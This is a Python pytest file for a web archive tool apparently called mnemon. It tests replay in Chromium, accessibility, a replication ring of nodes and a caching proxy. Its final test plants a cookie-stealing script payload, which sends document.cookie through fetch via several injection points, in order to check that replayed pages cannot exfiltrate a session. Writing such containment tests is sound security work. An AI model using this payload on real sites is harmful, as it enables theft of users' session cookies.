"""The archive in a real browser: browsed, replayed, attacked, read by others. The scripts are tests/browser/."""
import json
import os
import pathlib
import re
import shutil
import socket
import subprocess
import threading
import time

import pytest

from proxynodes import Origin, crowd
from ringnodes import await_agreement, found, many, wait_for
from test_replay import Node, response
from webserver import Site

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
SOURCE = ROOT / "tests" / "browser"
PIXEL = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")
KINDS = {
    ".html": "text/html", ".css": "text/css", ".js": "text/javascript", ".json": "application/json", ".gif": "image/gif",
    ".woff2": "font/woff2", ".svg": "image/svg+xml",
}
HOSTS = ["plain", "other", "hostile", "live"]
PIXELS = {
    "plain": ["/logo.gif", "/background.gif"]
    + [f"/app/{name}.gif" for name in (
        "small narrow written lazy fragment new-image set adjacent contextual parsed shadow added bg-property bg-rule bg-custom"
    ).split()],
    "other": [f"/cdn/{name}.gif" for name in "large wide attribute bg-text".split()],
}


@pytest.fixture(scope="module")
def program():
    return pathlib.Path(os.environ.get("MNEMON", ROOT / "build" / "mnemon"))


@pytest.fixture(scope="module")
def npm(program):
    """The directory with the scripts and their packages, installed once per build directory."""
    if shutil.which("node") is None or shutil.which("npm") is None:
        pytest.skip("skipped: node or npm is not installed")
    if shutil.which("chromium") is None:
        pytest.skip("skipped: chromium is not installed")
    directory = program.parent / "npm-browser"
    directory.mkdir(exist_ok=True)
    lock = (SOURCE / "package-lock.json").read_text()
    mark = directory / "installed"
    for file in [*SOURCE.glob("*.js"), *SOURCE.glob("*.json")]:
        shutil.copy(file, directory)
    if not mark.exists() or mark.read_text() != lock:
        result = subprocess.run(
            ["npm", "ci", "--ignore-scripts", "--no-audit", "--no-fund", "--loglevel=error"],
            cwd=directory, capture_output=True, text=True, timeout=300,
        )
        if result.returncode != 0:
            pytest.skip(f"skipped: npm could not install the browser's packages: {result.stderr.strip().splitlines()[-1:]}")
        mark.write_text(lock)
    return directory


# ---- the sites, as they were when they were live ----


class Live:
    """What would be seen outside if a replayed page got out: connections and datagrams."""

    def __init__(self, site):
        self.site = site
        self.connections = []
        self.datagrams = 0
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((site.addresses[HOSTS.index("live")], 0))
        threading.Thread(target=self.receive, daemon=True).start()
        for server in site.servers:
            server.verify_request = self.count

    def count(self, request, address):
        self.connections.append(address)
        return True

    def receive(self):
        while True:
            try:
                self.udp.recv(2048)
            except OSError:
                return
            self.datagrams += 1

    def forget(self):
        self.site.forget()
        self.connections.clear()
        self.datagrams = 0

    def assert_untouched(self):
        asked = [path for host in range(len(HOSTS)) for path in self.site.asked(host=host)]
        assert (asked, self.connections, self.datagrams) == ([], [], 0)


def texts(site, live, edition):
    """Placeholders in the files."""
    origins = {name: site.url("", number) for number, name in enumerate(HOSTS)}
    address, port = live.udp.getsockname()
    rest = origins["live"].removeprefix("http:")
    return {**origins, "edition": edition, "stun": f"{address}:{port}", "live-rest": rest}


def fill(site, live, edition):
    """Put the files of tests/browser/site on their hosts, with a page that links to them all."""
    words = texts(site, live, edition)
    site.put("/app/font.woff2", b"wOF2 and nothing more", "font/woff2")
    for number, name in enumerate(HOSTS[:3]):
        folder = SOURCE / "site" / name
        paths = []
        for file in sorted(path for path in folder.rglob("*") if path.is_file()):
            text = re.sub(r"{{([a-z-]+)}}", lambda match: words[match[1]], file.read_text())
            path = "/" + str(file.relative_to(folder)).removesuffix("index.html")
            paths.append({"/find.html": "/find?q=word"}.get(path, path))
            site.put(paths[-1], text, KINDS[file.suffix], host=number)
        for path in PIXELS.get(name, []):
            site.put(path, PIXEL, "image/gif", host=number)
            paths.append(path)
        links = "".join(f'<li><a href="{path}">{path}</a></li>' for path in paths)
        site.put("/all.html", f'<!DOCTYPE html><html lang="en"><title>All files</title><ul>{links}</ul></html>', host=number)


@pytest.fixture(scope="module")
def live():
    site = Site(len(HOSTS))
    live = Live(site)
    yield live
    site.close()
    live.udp.close()


def crawl(program, data, site):
    seeds = [site.url(path, number) for number in range(3) for path in ("/", "/all.html")]
    done = subprocess.run(
        [program, "archive", *seeds, "--data", data, "--allow-private", "--delay", "0", "--quiet"],
        capture_output=True, text=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr


def times_of(program, data, url):
    lines = subprocess.run([program, "list", url, "--data", data], capture_output=True, text=True, timeout=60).stdout
    return sorted({line.split(" ")[1] for line in lines.splitlines()})


@pytest.fixture(scope="module")
def archive(program, live, tmp_path_factory):
    """A data directory with two visits, the times of the start page in them, and an export of the plain site."""
    data = tmp_path_factory.mktemp("browser") / "data"
    site = live.site
    fill(site, live, "First edition")
    crawl(program, data, site)
    second = int(time.time())
    while int(time.time()) == second:  # captures are told apart by their second
        time.sleep(0.05)  # a turn of at most a second
    fill(site, live, "Second edition")
    crawl(program, data, site)
    times = times_of(program, data, site.url("/"))
    assert len(times) == 2
    export = data.parent / "export.wacz"  # now: a node that serves has the directory for itself
    subprocess.run([program, "export", site.url("/*"), "-o", export, "--data", data, "--quiet"], check=True, timeout=60)
    return data, times, export


@pytest.fixture(scope="module")
def served(program, archive):
    """The archive over HTTP: its origin."""
    data = archive[0]
    process = subprocess.Popen(
        [program, "serve", "--data", data, "--http", "0", "--allow-private"], stdout=subprocess.PIPE, text=True
    )
    line = process.stdout.readline()
    yield re.search(r"http://\S+", line)[0]
    process.terminate()
    process.wait(120)


def run_script(npm, name, timeout=180, is_whole=False, **config):
    """The browser without windows has the same engine and takes a third of the time. Pages that try to get out are tried
    in the whole one, which people have: it has more ways (is_whole)."""
    config["chromium"] = (None if is_whole else shutil.which("chromium-headless-shell")) or shutil.which("chromium")
    result = subprocess.run(["node", name, json.dumps(config)], cwd=npm, capture_output=True, text=True, timeout=timeout)
    assert result.returncode == 0, (result.stdout + result.stderr)[-6000:]
    return result.stdout


@pytest.fixture
def run(npm, archive, served, live):
    """Run a script of tests/browser; what it printed."""

    def script(name, **more):
        times = archive[1]
        sites = {name: live.site.url("", number) for number, name in enumerate(HOSTS)}
        live.forget()
        return run_script(npm, name, archive=served, sites=sites, times=times, **more)

    return script


# ---- the tests ----


def test_an_archive_is_browsed(run, live):
    run("browse.js")
    live.assert_untouched()


def test_pages_replay_from_the_archive_alone(run, live):
    run("features.js")
    live.assert_untouched()


def test_hostile_pages_are_kept_in(run, live):
    run("hostile.js", part="inside", is_whole=True)
    live.assert_untouched()


def test_hostile_pages_cannot_leave(run, live):
    """Not even a connection is opened: without Connection-Allowlist, Chromium opens one before it asks the policy."""
    run("hostile.js", part="leaving", is_whole=True)
    live.assert_untouched()


def own_pages(served, live, times):
    home = live.site.url("/")
    paths = {
        "start": "/",
        "calendar": f"/web/*/{home}",
        "list": f"/web/*/{home}*",
        "frame": f"/web/{times[-1]}/{home}",
        "missing": f"/web/2020/{home}never",
        "details": f"/details/{times[-1]}/{home}",
        "compare": f"/compare/{times[0]}/{times[1]}/{home}",
        "holdings": "/holdings",
        "search": "/search?q=edition",
        "jobs": "/jobs",
        "dashboard": "/dashboard",
        "login": "/login",
    }
    return {name: served + path for name, path in paths.items()}


def test_own_pages_are_accessible(run, served, live, archive):
    run("accessible.js", pages=own_pages(served, live, archive[1]))


def test_pictures_are_taken(run, served, live, archive):
    directory = os.environ.get("MNEMON_SCREENSHOTS")
    if not directory:
        pytest.skip("skipped: MNEMON_SCREENSHOTS names no directory for them")
    pathlib.Path(directory).mkdir(parents=True, exist_ok=True)
    report = json.loads(run("screens.js", pages=own_pages(served, live, archive[1]), directory=directory))
    assert report["wide"] == []


def test_replayweb_page_shows_an_export(run, archive, live):
    run("wacz.js", file=str(archive[2]), url=live.site.url("/"), text="Second edition")


# ---- a ring ----


def holders(nodes, urls):
    """Those that have a capture of each of them on their own disks, and those that have none of any."""
    having = {each: {json.loads(line.split(" ", 2)[2])["url"] for line in each.run("list", "--local", "*").stdout.splitlines()} for each in nodes}
    return [n for n in nodes if having[n] >= set(urls)], [n for n in nodes if not having[n] & set(urls)]


def test_a_page_is_read_through_a_node_without_it_while_one_holder_lives(npm, mnemon, tmp_path):
    site = Site()
    site.put("/", '<!DOCTYPE html><html lang="en"><title>Page</title><link rel=stylesheet href=/style.css><h1>Kept by others</h1>'
             '<img src=/logo.gif alt=Logo></html>')
    site.put("/style.css", "h1 { color: rgb(1, 2, 3) }", "text/css")
    site.put("/logo.gif", PIXEL, "image/gif")
    urls = [site.url(path) for path in ("/", "/style.css", "/logo.gif")]
    with many(mnemon, tmp_path) as make:
        nodes = [make(number) for number in range(30, 36)]
        found(nodes[0], "--open", "--replicas", "3", "--mapping", "host")  # by host: who has the page has all of it
        nodes[0].start("--allow-private", "--allow-private-ring")
        for each in nodes[1:]:
            each.start("--join", nodes[0].place, "--allow-private", "--allow-private-ring")
        await_agreement(nodes)
        added = nodes[0].run("job", "add", "--ring", urls[0], "--delay", "0")
        assert added.returncode == 0, added.stderr
        wait_for(lambda: len(holders(nodes, urls)[0]) == 3 and len(holders(nodes, urls)[1]) == 3, lambda: str(holders(nodes, urls)))
        site.close()
        having, readers = holders(nodes, urls)
        run_script(npm, "ring.js", archive=readers[0].url, part="dashboard")
        for reader in readers:  # each for the first time: none has anything in memory
            run_script(npm, "ring.js", archive=reader.url, url=urls[0], part="page")
            if len(having) > 1:
                having.pop().kill()


def test_two_captures_of_one_second_are_opened_by_their_addresses(npm, mnemon, tmp_path):
    url, texts = "http://second.example/", ["First witness", "Second witness"]
    path = tmp_path / "second.warc.gz"
    path.write_bytes(b"".join(response(url, f"<!DOCTYPE html><title>t</title><h1>{text}</h1>") for text in texts))
    node = Node(mnemon, tmp_path, files=[path])
    try:
        run_script(npm, "second.js", archive=f"http://{node.host}", url=url, texts=texts)
    finally:
        node.stop()


# ---- the web, through a proxy ----


def test_a_site_that_goes_down_is_browsed_on_from_the_crowd(npm, mnemon, tmp_path):
    origin = Origin()
    page = '<!DOCTYPE html><html lang="en"><title>{0}</title><link rel=stylesheet href=/{1}.css><h1>{0}</h1><img src=/{1}.gif alt=Logo>{2}</html>'
    origin.put("/", page.format("First", "one", "<a href=/two>onward</a>").encode())
    origin.put("/two", page.format("Second", "two", "<a href=/three>nowhere</a>").encode())
    origin.put("/one.css", b"h1 { color: rgb(1, 2, 3) }", kind="text/css")
    origin.put("/two.css", b"h1 { color: rgb(4, 5, 6) }", kind="text/css")
    origin.put("/one.gif", PIXEL, kind="image/gif")
    origin.put("/two.gif", PIXEL, kind="image/gif")

    def end(*_):
        threading.Thread(target=origin.end).start()
        return 200, {}, b"bye"

    origin.pages["/end"] = end
    with crowd(mnemon, tmp_path, 3) as (reader, browsed, _):
        for path in ("/two", "/two.css", "/two.gif"):
            assert reader.curl(origin.link(path))[0] == 200
        wait_for(lambda: reader.crowd()["offers"]["count"] == 3, lambda: str(reader.crowd()))
        run_script(npm, "proxy.js", proxy=browsed.proxy, site=origin.link(""))


def test_a_planted_page_in_the_place_of_a_dead_one_reads_nothing(npm, mnemon, tmp_path):
    """A cookie is a host's, whatever the port: so any port where nobody listens would do to read it."""
    site, dead = Origin(), Origin()
    steal = "document.title = 'stolen ' + document.cookie; fetch('SITE/stolen?' + document.cookie)".replace("SITE", site.link(""))
    planted = f"""<!DOCTYPE html><title>quiet</title><body onload="{steal}"><p>Planted</p><script>{steal}</script>
        <img src=/none.gif onerror="{steal}"><script src=/planted.js></script><script src=/planted.txt></script>
        <iframe srcdoc="<script>parent.document.title = 'stolen'</script>"></iframe></body>"""
    site.put("/", b"<!DOCTYPE html><title>alive</title><body>alive</body>")
    dead.put("/planted", planted.encode())
    site.put("/two", planted.encode())
    for path in ("/planted.js", "/planted.txt"):
        dead.put(path, steal.encode(), kind="text/javascript" if path.endswith("js") else "text/plain")
    dead.put("/pixel.gif", PIXEL, kind="image/gif")
    site.put("/worker.js", b"self.postMessage('ran')", kind="text/javascript")

    def end(*_):
        threading.Thread(target=site.end).start()
        return 200, {}, b"bye"

    site.pages["/end"] = end
    with crowd(mnemon, tmp_path, 3) as (reader, browsed, _):
        paths = [dead.link(path) for path in dead.pages] + [site.link("/two"), site.link("/worker.js")]
        for link in paths:
            assert reader.curl(link)[0] == 200
        wait_for(lambda: reader.crowd()["offers"]["count"] == len(paths), lambda: str(reader.crowd()))
        site.put("/", b"<!DOCTYPE html><title>alive</title><body>alive</body>", Set_Cookie="session=secret; Path=/")
        dead.end()
        run_script(npm, "proxy.js", proxy=browsed.proxy, site=site.link(""), dead=dead.link(""), is_whole=True)
    assert not [path for _, path, _, _ in site.requests if path.startswith("/stolen")]
